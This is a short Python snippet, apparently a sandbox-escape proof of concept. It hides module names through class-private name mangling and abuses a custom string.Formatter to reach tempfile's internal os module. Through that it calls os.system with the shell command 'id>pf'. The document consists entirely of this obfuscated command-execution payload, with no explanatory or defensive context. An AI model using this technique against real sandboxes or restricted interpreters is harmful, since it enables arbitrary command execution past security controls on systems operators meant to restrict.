import string as _C__string, tempfile as _C__tempfile

class _C:

    def go(self):

        class F(__string.Formatter):

            def format_field(self, value, spec):
                value.system(spec)
                return ''
        F().format('{0._os:id>pf}', __tempfile)
_C().go()
